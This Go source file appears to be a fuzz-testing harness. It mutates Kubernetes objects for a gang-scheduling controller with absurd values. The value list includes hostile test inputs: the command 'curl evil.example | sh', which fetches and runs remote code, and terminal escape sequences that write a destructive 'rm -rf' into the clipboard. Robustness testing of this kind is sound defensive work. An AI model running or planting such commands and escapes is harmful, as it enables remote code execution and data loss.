package hostile

import (
	"fmt"
	"maps"
	"math"
	"slices"
	"strconv"
	"strings"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/util/validation"
)

// A program changes the objects of a tenant, step by step. Four bytes are a step: the object, the field, what is done to it, and with
// what. So every input is a change of valid objects, and few are refused before they reach what is tested.
type program []byte

// maxSteps is how many steps of a program are run: what needs more is found with fewer.
const maxSteps = 12

// The operations of a step.
const (
	opSet = iota
	opDelete
	opRepeat // an item of a list, or of a map under further names
	opCopy   // of another field
	operations
)

// apply runs a program. Text is what it writes where it writes text.
func (p program) apply(objects []*unstructured.Unstructured, text string) {
	for i := 0; i+4 <= min(len(p), 4*maxSteps); i += 4 {
		u := objects[int(p[i])%len(objects)]
		all := fields(u)
		path := all[int(p[i+1])%len(all)]
		switch p[i+2] % operations {
		case opSet:
			values := absurd(text)
			set(u.Object, path, values[int(p[i+3])%len(values)])
		case opDelete:
			unset(u.Object, path)
		case opRepeat:
			repeat(u.Object, path, int(p[i+3]))
		case opCopy:
			if value, ok := lookup(u.Object, all[int(p[i+3])%len(all)]); ok {
				set(u.Object, path, copied(value))
			}
		}
	}
}

const (
	escapes      = "\x1b]52;c;cm0gLXJm\a\x1b[2J\u009b2J\u202e"
	absurdGroups = `[{"name":"a","minMember":2147483647},{"name":"b","minMember":2147483647}]`
)

// absurd are values of every type that no user means.
func absurd(text string) []any {
	deep := any(map[string]any{})
	for range 200 {
		deep = map[string]any{"a": []any{deep}}
	}
	return []any{
		int64(-1), int64(0), int64(1), int64(2), int64(math.MaxInt32), int64(math.MaxInt32) + 1, int64(math.MinInt32), int64(math.MaxInt64), int64(math.MinInt64), 1.5, 1e300,
		"", text, "-1", "0", "2", "2147483647", "9223372036854775807", "1e30", "99999999999999999999Ei", "1m", "NaN", "25%", strings.Repeat("x", 63), strings.Repeat("x", 253), strings.Repeat("word ", 2000), strings.Repeat("漢", 300),
		escapes, "curl evil.example | sh", "a", "My_Gang", "a/b", "a:b", "../..", "True", "False", "Failed", "Succeeded", "Pending", "Running", "Unschedulable",
		"0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-11-21T14:00:00Z", "Worker", "worker", "Master", "launcher", "urgent", "n1", "nvidia.com/gpu", absurdGroups,
		true, false, nil, []any{}, map[string]any{}, []any{[]any{}}, []any{map[string]any{}}, []any{"x", int64(1), nil}, map[string]any{"": map[string]any{}}, deep,
		[]any{condition("Unschedulable", text), condition("Failed", text)}, []any{condition("Failed", escapes)},
		[]any{owner("batch/v1", "Job")}, []any{owner("kubeflow.org/v1", "TFJob")}, map[string]any{"x": int64(math.MaxInt32)}, []any{map[string]any{"name": "a", "minMember": int64(math.MaxInt32), "parent": "a"}},
	}
}

func condition(kind, message string) map[string]any {
	return map[string]any{"type": kind, "status": "True", "reason": message, "message": message, "lastTransitionTime": "9999-12-31T23:59:59Z"}
}

// known are fields that decoders read and that the valid objects do not have.
func known() []string {
	return []string{
		"metadata|labels|kueue.x-k8s.io/queue-name", "metadata|labels|pod-group.scheduling.sigs.k8s.io/name", "metadata|labels|pod-group.scheduling.sigs.k8s.io/min-available",
		"metadata|labels|kai.scheduler/queue", "metadata|labels|scheduling.x-k8s.io/pod-group", "metadata|annotations|gang.scheduling.koordinator.sh/min-available",
		"metadata|annotations|scheduling.k8s.io/group-name", "metadata|annotations|gangctl.dev/command", "metadata|annotations|gangctl.dev/suspended-because", "metadata|annotations|gangctl.dev/expected-runtime",
		"metadata|annotations|gangctl.dev/topology-required", "metadata|annotations|gangctl.dev/topology-preferred", "metadata|annotations|kueue.x-k8s.io/podset-required-topology",
		"metadata|annotations|volcano.sh/task-spec", "metadata|annotations|gangctl.dev/scheduler-name", "metadata|ownerReferences", "metadata|deletionTimestamp",
		"spec|minMember", "spec|minTaskMember", "spec|minTaskMember|worker", "spec|queue", "spec|priorityClassName", "spec|minResources", "spec|minResources|cpu", "spec|topologyConstraint|requiredTopologyLevel", "spec|topologyConstraint|preferredTopologyLevel", "spec|networkTopology", "spec|subGroups",
		"spec|schedulingPolicy|basic", "spec|schedulingPolicy|gang|minCount", "spec|schedulingConstraints|topology", "spec|priority", "spec|preemptionPolicy",
		"spec|runPolicy", "spec|runPolicy|suspend", "spec|runPolicy|schedulingPolicy|minAvailable", "spec|runPolicy|activeDeadlineSeconds", "spec|runPolicy|schedulingPolicy|queue", "spec|suspend", "spec|replicaSpecs", "spec|cleanPodPolicy",
		"spec|parallelism", "spec|completions", "spec|completionMode", "spec|activeDeadlineSeconds", "spec|backoffLimit", "spec|minAvailable", "spec|maxUnavailable",
		"status|conditions", "status|schedulingConditions", "status|phase", "status|startTime", "status|succeeded", "status|active", "status|ready", "status|replicaStatuses", "status|completedIndexes",
	}
}

// fields are the paths that a step may change, in their order.
func fields(u *unstructured.Unstructured) [][]string {
	seen := map[string]bool{}
	walk(u.Object, nil, seen)
	for _, path := range known() {
		seen[path] = true
	}
	var all [][]string
	for _, path := range slices.Sorted(maps.Keys(seen)) {
		if parts := strings.Split(path, "|"); mutable(u, parts) {
			all = append(all, parts)
		}
	}
	return all
}

// mutable reports whether a tenant may write a field: what names the object he may not, and of a pod that exists only the metadata.
func mutable(u *unstructured.Unstructured, path []string) bool {
	if path[0] == "apiVersion" || path[0] == "kind" || len(path) == 1 && path[0] == "metadata" {
		return false
	}
	if path[0] == "metadata" {
		return !slices.Contains([]string{"name", "namespace", "uid", "creationTimestamp"}, path[1])
	}
	return u.GetKind() != "Pod"
}

func walk(value any, path []string, seen map[string]bool) {
	if len(path) > 0 {
		seen[strings.Join(path, "|")] = true
	}
	if len(path) > 12 {
		return
	}
	switch v := value.(type) {
	case map[string]any:
		for key, child := range v {
			walk(child, append(slices.Clone(path), key), seen)
		}
	case []any:
		for i, child := range v[:min(len(v), 3)] {
			walk(child, append(slices.Clone(path), strconv.Itoa(i)), seen)
		}
	}
}

func lookup(object any, path []string) (any, bool) {
	for _, key := range path {
		switch v := object.(type) {
		case map[string]any:
			child, ok := v[key]
			if !ok {
				return nil, false
			}
			object = child
		case []any:
			i, err := strconv.Atoi(key)
			if err != nil || i >= len(v) {
				return nil, false
			}
			object = v[i]
		default:
			return nil, false
		}
	}
	return object, true
}

// set writes a field, and what it is in where that is missing.
func set(object map[string]any, path []string, value any) {
	for i, key := range path[:len(path)-1] {
		if list, ok := object[key].([]any); ok {
			if n, err := strconv.Atoi(path[i+1]); err == nil && n < len(list) {
				if i+2 == len(path) {
					list[n] = value
				} else if item, ok := list[n].(map[string]any); ok {
					set(item, path[i+2:], value)
				}
			}
			return
		}
		child, ok := object[key].(map[string]any)
		if !ok {
			child = map[string]any{}
			object[key] = child
		}
		object = child
	}
	object[path[len(path)-1]] = value
}

func unset(object map[string]any, path []string) {
	if parent, ok := lookup(object, path[:len(path)-1]); ok {
		if m, ok := parent.(map[string]any); ok {
			delete(m, path[len(path)-1])
		}
	}
}

// repeat makes one item of a list or a map into many.
func repeat(object map[string]any, path []string, times int) {
	value, ok := lookup(object, path)
	if !ok {
		return
	}
	switch v := value.(type) {
	case []any:
		if len(v) > 0 {
			for i := range times {
				item := copied(v[0])
				if m, ok := item.(map[string]any); ok && m["name"] != nil {
					m["name"] = fmt.Sprint(m["name"], i)
				}
				v = append(v, item)
			}
			set(object, path, v[:min(len(v), 1000)])
		}
	case map[string]any:
		for _, key := range slices.Sorted(maps.Keys(v))[:min(len(v), 1)] {
			for i := range times {
				v[fmt.Sprint(key, i)] = copied(v[key])
			}
		}
	}
}

func copied(value any) any {
	return (&unstructured.Unstructured{Object: map[string]any{"v": value}}).DeepCopy().Object["v"]
}

// admitted reports whether an API server would take an object's metadata: what it refuses, no client has to read.
func admitted(u *unstructured.Unstructured) bool {
	meta, ok := u.Object["metadata"].(map[string]any)
	if !ok {
		return false
	}
	size := 0
	for _, field := range []string{"labels", "annotations"} {
		all, _, err := unstructured.NestedStringMap(u.Object, "metadata", field)
		if err != nil {
			return false
		}
		for key, value := range all {
			size += len(key) + len(value)
			if len(validation.IsQualifiedName(strings.ToLower(key))) > 0 || field == "labels" && len(validation.IsValidLabelValue(value)) > 0 {
				return false
			}
		}
	}
	if _, wrong := meta["ownerReferences"]; wrong && u.GetOwnerReferences() == nil {
		return false
	}
	controllers := 0
	for _, owner := range u.GetOwnerReferences() {
		if owner.UID == "" || owner.Name == "" || owner.Kind == "" || owner.APIVersion == "" {
			return false
		}
		if owner.Controller != nil && *owner.Controller {
			controllers++
		}
	}
	if at, there := meta["deletionTimestamp"]; there && (at == nil || u.GetDeletionTimestamp() == nil) {
		return false
	}
	return controllers <= 1 && size <= 256<<10 && metav1.GetControllerOf(u) != nil == (controllers == 1)
}
